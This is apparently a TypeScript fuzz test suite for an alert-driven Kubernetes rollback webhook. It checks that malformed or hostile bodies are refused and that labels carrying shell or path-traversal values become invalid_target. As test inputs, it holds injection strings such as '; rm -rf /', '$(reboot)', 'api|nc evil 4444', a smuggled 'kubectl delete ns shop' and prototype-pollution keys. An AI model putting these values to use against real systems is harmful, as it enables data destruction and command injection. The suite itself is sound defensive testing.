// Hostile bodies on the webhook and the dry run: a property-based fuzzer (random JSON, valid
// payloads with fields swapped for wrong types, prototype-pollution keys, huge strings and label
// maps, deep nesting, invalid UTF-8, wrong content types) gets only 400/413/415, or 202/200 for
// bodies that are in fact valid; nothing crashes, nothing but valid alerts makes a job, and
// Object.prototype is untouched. Targets built from hostile labels are refused as
// `invalid_target` with a reason that says why.
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import fc from 'fast-check';
import { alert, firing, payload } from '../support/alerts.js';
import { RecordingExecutor } from '../support/recording-executor.js';
import { SECRET, basic, startTestServer, type TestServer } from '../support/server.js';
import { Figures, quantile } from './support/figures.js';

const figures = new Figures('hostile-input');
const AUTH = basic('alertmanager', SECRET);
const PROTO_KEYS = ['__proto__', 'constructor', 'prototype'] as const;
const prototypeNames = Object.getOwnPropertyNames(Object.prototype).sort();

describe('hostile input', () => {
  let s: TestServer;
  const exec = new RecordingExecutor();
  const statuses = new Map<string, number>();
  const latencies: number[] = [];
  let jobsExpected = 0;

  before(async () => {
    s = await startTestServer({
      executors: { kubernetes: exec },
      configText: [
        "policy: { allowedNamespaces: ['shop', 'team-*'], cooldownSeconds: 0,",
        '  circuitBreaker: { maxRollbacks: 100000 } }',
      ].join('\n'),
    });
  });
  after(async () => {
    await s.close();
  });

  /** Sends raw bytes; returns status and parsed body; counts what a valid 202 created. */
  async function send(
    route: 'trigger' | 'test',
    body: string | Buffer,
    contentType = 'application/json',
  ): Promise<{ status: number; body: any }> {
    const t0 = performance.now();
    const res = await fetch(`${s.url}/api/admin/rollback/${route}`, {
      method: 'POST',
      headers: { authorization: AUTH, 'content-type': contentType },
      body,
    });
    const text = await res.text();
    latencies.push(performance.now() - t0);
    const key = `${route} ${res.status}`;
    statuses.set(key, (statuses.get(key) ?? 0) + 1);
    let parsed: any;
    try {
      parsed = JSON.parse(text);
    } catch {
      assert.fail(
        `${route} answered ${res.status} with a body that is not JSON: ${text.slice(0, 200)}`,
      );
    }
    if (route === 'trigger' && res.status === 202) {
      jobsExpected += (parsed.decisions as Array<{ decision: string }>).filter((d) =>
        ['queued', 'awaiting_approval'].includes(d.decision),
      ).length;
    }
    return { status: res.status, body: parsed };
  }

  function assertRefusedOrValid(route: 'trigger' | 'test', r: { status: number; body: any }) {
    const ok = route === 'trigger' ? 202 : 200;
    assert.ok(
      [ok, 400, 413, 415].includes(r.status),
      `${route}: unexpected ${r.status} ${JSON.stringify(r.body).slice(0, 300)}`,
    );
    if (r.status !== ok) assert.equal(typeof r.body.error, 'string', 'errors say what is wrong');
  }

  /** A JSON text with `key` as an own member of the object at the top (JSON.parse keeps it). */
  function withKey(json: string, key: string, value: unknown): string {
    return json.replace(/^\{/, `{${JSON.stringify(key)}:${JSON.stringify(value)},`);
  }

  const validPayload = () =>
    payload([
      alert({
        alertname: 'CriticalErrorRate',
        labels: { namespace: 'shop', deployment: 'fuzz' },
        startsAt: '2026-11-22T09:00:00.000Z',
      }),
    ]);

  test('random JSON values: refused or valid, never a crash', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.jsonValue({ maxDepth: 5 }),
        fc.constantFrom('trigger', 'test'),
        async (v, route) => {
          const r = await send(route, JSON.stringify(v) ?? 'null');
          assertRefusedOrValid(route, r);
        },
      ),
      { numRuns: 150 },
    );
  });

  test('valid payloads with one field swapped for a wrong type or a hostile value', async () => {
    const hostile = fc.oneof(
      fc.jsonValue({ maxDepth: 3 }),
      fc.string({ unit: 'binary', maxLength: 64 }),
      fc.constantFrom(
        '',
        ' ',
        '\u0000',
        '../../etc/passwd',
        '$(reboot)',
        '`id`',
        '; rm -rf /',
        '4',
        4,
        -1,
        1e308,
        null,
        [],
        {},
      ),
    );
    const paths: Array<(p: any, v: unknown) => void> = [
      (p, v) => (p.version = v),
      (p, v) => (p.status = v),
      (p, v) => (p.alerts = v),
      (p, v) => (p.alerts[0] = v),
      (p, v) => (p.alerts[0].status = v),
      (p, v) => (p.alerts[0].labels = v),
      (p, v) => (p.alerts[0].labels.alertname = v),
      (p, v) => (p.alerts[0].labels.deployment = v),
      (p, v) => (p.alerts[0].labels.namespace = v),
      (p, v) => (p.alerts[0].labels.kind = v),
      (p, v) => (p.alerts[0].fingerprint = v),
      (p, v) => (p.alerts[0].startsAt = v),
      (p, v) => (p.alerts[0].annotations = v),
      (p, v) => (p.commonLabels = v),
      (p, v) => (p.truncatedAlerts = v),
    ];
    let n = 0;
    await fc.assert(
      fc.asyncProperty(
        fc.nat(paths.length - 1),
        hostile,
        fc.constantFrom('trigger', 'test'),
        async (i, v, route) => {
          const p = validPayload() as any;
          p.alerts[0].fingerprint = `fz${++n}`;
          paths[i](p, v);
          const r = await send(route, JSON.stringify(p));
          assertRefusedOrValid(route, r);
        },
      ),
      { numRuns: 200 },
    );
  });

  test('prototype-pollution keys anywhere in the body', async () => {
    const where = fc.constantFrom(
      'top',
      'alert',
      'labels',
      'annotations',
      'commonLabels',
      'short',
      'shortLabels',
    );
    let n = 0;
    await fc.assert(
      fc.asyncProperty(
        where,
        fc.constantFrom(...PROTO_KEYS),
        fc.jsonValue({ maxDepth: 2 }),
        fc.constantFrom('trigger', 'test'),
        async (at, key, value, route) => {
          const hostileValue =
            typeof value === 'object' && value !== null ? value : { polluted: value ?? 'yes' };
          const p = validPayload() as any;
          p.alerts[0].fingerprint = `pp${++n}`;
          let text: string;
          const inner = (obj: unknown) => withKey(JSON.stringify(obj), key, hostileValue);
          if (at === 'top') text = inner(p);
          else if (at === 'short' || at === 'shortLabels') {
            const short = {
              alert_name: 'CriticalErrorRate',
              labels: { severity: 'critical', namespace: 'shop', deployment: 'fuzz' },
            };
            text =
              at === 'short'
                ? inner(short)
                : JSON.stringify(short).replace(
                    /"labels":\{/,
                    `"labels":{${JSON.stringify(key)}:${JSON.stringify(hostileValue)},`,
                  );
          } else {
            const marker = '"__MARK__"';
            const target =
              at === 'alert'
                ? p.alerts[0]
                : at === 'labels'
                  ? p.alerts[0].labels
                  : at === 'annotations'
                    ? p.alerts[0].annotations
                    : p.commonLabels;
            const copy = { ...target };
            Object.keys(target).forEach((k) => delete target[k]);
            target.__MARK__ = copy;
            text = JSON.stringify(p).replace(
              `${marker}:${JSON.stringify(copy)}`,
              inner(copy).slice(1, -1),
            );
          }
          const r = await send(route, text);
          assertRefusedOrValid(route, r);
          assert.deepEqual(Object.getOwnPropertyNames(Object.prototype).sort(), prototypeNames);
          assert.equal(({} as Record<string, unknown>)['polluted'], undefined);
        },
      ),
      { numRuns: 150 },
    );
  });

  test('huge strings, huge label maps, deep nesting, invalid UTF-8, wrong content types', async () => {
    const cases: Array<[string, 'trigger' | 'test', string | Buffer, string, number[]]> = [];
    const big = validPayload() as any;
    big.alerts[0].labels.deployment = 'x'.repeat(2 * 1024 * 1024);
    cases.push(['2 MiB label value', 'trigger', JSON.stringify(big), 'application/json', [413]]);
    cases.push(['2 MiB label value', 'test', JSON.stringify(big), 'application/json', [413]]);
    const many = validPayload() as any;
    for (let i = 0; i < 20_000; i++) many.alerts[0].labels[`l${i}`] = 'v';
    many.alerts[0].fingerprint = 'many-labels';
    cases.push([
      '20k labels (under the limit)',
      'trigger',
      JSON.stringify(many),
      'application/json',
      [202, 400],
    ]);
    const manyAlerts = payload(
      Array.from({ length: 1001 }, (_, i) =>
        alert({ alertname: 'Unmapped', fingerprint: `ma${i}` }),
      ),
    );
    cases.push(['1001 alerts', 'trigger', JSON.stringify(manyAlerts), 'application/json', [400]]);
    const depth = 100_000;
    cases.push([
      'arrays nested 100k deep',
      'trigger',
      '['.repeat(depth) + ']'.repeat(depth),
      'application/json',
      [400, 413],
    ]);
    cases.push([
      'objects nested 100k deep',
      'test',
      '{"a":'.repeat(depth) + '1' + '}'.repeat(depth),
      'application/json',
      [400, 413],
    ]);
    const deepExtra = validPayload() as any;
    deepExtra.alerts[0].fingerprint = 'deep-extra';
    const deepText = JSON.stringify(deepExtra).replace(
      /^\{/,
      `{"extra":${'['.repeat(5000)}${']'.repeat(5000)},`,
    );
    cases.push([
      '5k-deep unknown extra field',
      'trigger',
      deepText,
      'application/json',
      [202, 400],
    ]);
    const utf = JSON.stringify({ ...(validPayload() as any), receiver: 'RECV' });
    const [head, tail] = utf.split('RECV') as [string, string];
    const invalid = Buffer.concat([
      Buffer.from(head),
      Buffer.from([0xff, 0xfe, 0xc3, 0x28, 0xed, 0xa0, 0x80]),
      Buffer.from(tail),
    ]);
    cases.push(['invalid UTF-8 in a string', 'trigger', invalid, 'application/json', [202, 400]]);
    cases.push([
      'invalid UTF-8 outside strings',
      'trigger',
      Buffer.from([0x7b, 0xff, 0xfe, 0x7d]),
      'application/json',
      [400],
    ]);
    cases.push([
      'latin1 charset',
      'trigger',
      JSON.stringify(validPayload()),
      'application/json; charset=latin1',
      [415],
    ]);
    cases.push(['text/plain', 'trigger', JSON.stringify(validPayload()), 'text/plain', [415]]);
    cases.push([
      'form on /trigger',
      'trigger',
      'alert_name=CriticalErrorRate',
      'application/x-www-form-urlencoded',
      [415],
    ]);
    cases.push(['multipart', 'test', '--x\r\n\r\n--x--', 'multipart/form-data; boundary=x', [415]]);
    cases.push([
      'form with __proto__',
      'test',
      'alert_name=CriticalErrorRate&label.severity=critical&label.__proto__=x&label.namespace=shop&label.deployment=a&__proto__[polluted]=1',
      'application/x-www-form-urlencoded',
      [200, 400],
    ]);
    cases.push([
      'form with 500 fields',
      'test',
      Array.from({ length: 500 }, (_, i) => `label.l${i}=v`).join('&') + '&alert_name=X',
      'application/x-www-form-urlencoded',
      [400, 413],
    ]);
    cases.push(['empty body', 'trigger', '', 'application/json', [400]]);
    cases.push(['JSON null', 'test', 'null', 'application/json', [400]]);
    for (const [name, route, body, type, expected] of cases) {
      const t0 = performance.now();
      const r = await send(route, body, type);
      figures.add(
        'edge cases',
        `${name} → ${route}`,
        `${r.status} in ${(performance.now() - t0).toFixed(0)} ms`,
      );
      assert.ok(
        expected.includes(r.status),
        `${name} on /${route}: ${r.status} ${JSON.stringify(r.body).slice(0, 200)}`,
      );
    }
    assert.deepEqual(Object.getOwnPropertyNames(Object.prototype).sort(), prototypeNames);
  });

  test('after all that: alive, no crash logged, no job but from valid alerts, prototype intact', async () => {
    assert.equal((await fetch(`${s.url}/healthz`)).status, 200);
    const errors = s.logs.filter((l) => JSON.parse(l).level >= 50);
    assert.deepEqual(errors, [], 'no request failed with an internal error');
    const jobs = (await s.request('GET', 'jobs?limit=1000')).body.jobs as unknown[];
    assert.equal(jobs.length, jobsExpected, 'jobs exist only for decisions that said so');
    assert.deepEqual(Object.getOwnPropertyNames(Object.prototype).sort(), prototypeNames);
    assert.equal(({} as Record<string, unknown>)['polluted'], undefined);
    const total = [...statuses.values()].reduce((a, b) => a + b, 0);
    figures.add('fuzz', 'requests', total);
    figures.add(
      'fuzz',
      'answers',
      [...statuses]
        .sort()
        .map(([k, v]) => `${k}: ${v}`)
        .join(', '),
    );
    figures.add(
      'fuzz',
      'latency p50 / p99',
      `${quantile(latencies, 0.5).toFixed(1)} / ${quantile(latencies, 0.99).toFixed(1)} ms`,
    );
    figures.add('fuzz', 'jobs created by valid fuzzed alerts', jobs.length);
  });
});

describe('hostile labels make no target', () => {
  let s: TestServer;
  const exec = new RecordingExecutor();
  before(async () => {
    s = await startTestServer({
      executors: { kubernetes: exec },
      configText: "policy: { allowedNamespaces: ['shop', 'team-*'] }",
    });
  });
  after(async () => {
    await s.close();
  });

  const NAME = /is not a valid Kubernetes object name/;
  const NS = /is not a valid Kubernetes namespace name/;
  const cases: Array<[string, Record<string, string>, RegExp]> = [
    ['shell: ;', { deployment: 'api; rm -rf /' }, NAME],
    ['shell: $()', { deployment: '$(reboot)' }, NAME],
    ['shell: backticks', { deployment: '`id`' }, NAME],
    ['shell: pipe', { deployment: 'api|nc evil 4444' }, NAME],
    ['shell: newline', { deployment: 'api\nkubectl delete ns shop' }, NAME],
    ['shell: && in namespace', { namespace: 'shop&&id', deployment: 'api' }, NS],
    ['traversal: ../../etc/passwd', { deployment: '../../etc/passwd' }, NAME],
    ['traversal: ..', { deployment: '..' }, NAME],
    ['traversal: a/b', { deployment: 'api/../../secrets' }, NAME],
    ['traversal in namespace', { namespace: '../kube-system', deployment: 'api' }, NS],
    ['uppercase', { deployment: 'API' }, NAME],
    ['leading dash', { deployment: '-api' }, NAME],
    ['unicode', { deployment: 'ápi' }, NAME],
    ['254 characters', { deployment: 'a'.repeat(254) }, NAME],
    ['empty name', { deployment: '', service: '' }, /no rollout, deployment or service label/],
    ['no namespace', { namespace: '' }, /no namespace label/],
    [
      'namespace not allowed',
      { namespace: 'payments', deployment: 'api' },
      /not in policy.allowedNamespaces/,
    ],
    [
      'namespace denied',
      { namespace: 'kube-system', deployment: 'coredns' },
      /denied by policy.deniedNamespaces/,
    ],
    [
      'kind Pod',
      { kind: 'Pod' },
      /kind "Pod" is not Deployment, StatefulSet, DaemonSet or Rollout/,
    ],
    [
      'kind traversal',
      { kind: 'Deployment/../Secret' },
      /is not Deployment, StatefulSet, DaemonSet or Rollout/,
    ],
  ];

  test('/trigger and /test refuse each with invalid_target and the reason', async () => {
    const alerts = cases.map(([, labels], i) =>
      firing('CriticalErrorRate', 'api', { labels, fingerprint: `bad${i}` }),
    );
    const r = await s.request('POST', 'trigger', payload(alerts));
    assert.equal(r.status, 202);
    for (const [i, [name, , reason]] of cases.entries()) {
      const d = r.body.decisions[i];
      assert.equal(d.decision, 'invalid_target', `${name}: ${d.decision} ${d.reason}`);
      assert.match(d.reason, reason, name);
      assert.ok(d.reason.length < 300, `${name}: the reason is short`);
      const dry = await s.request('POST', 'test', {
        alert_name: 'CriticalErrorRate',
        labels: { severity: 'critical', namespace: 'shop', deployment: 'api', ...cases[i][1] },
      });
      assert.equal(dry.status, 200);
      assert.equal(dry.body.plans[0].decision, 'invalid_target', name);
      assert.match(dry.body.plans[0].reason, reason, name);
    }
    assert.deepEqual((await s.request('GET', 'jobs')).body.jobs, [], 'no job');
    assert.deepEqual(exec.calls, [], 'the executor was never asked about them');
    figures.add('hostile labels', 'refused as invalid_target', cases.length);
  });
});
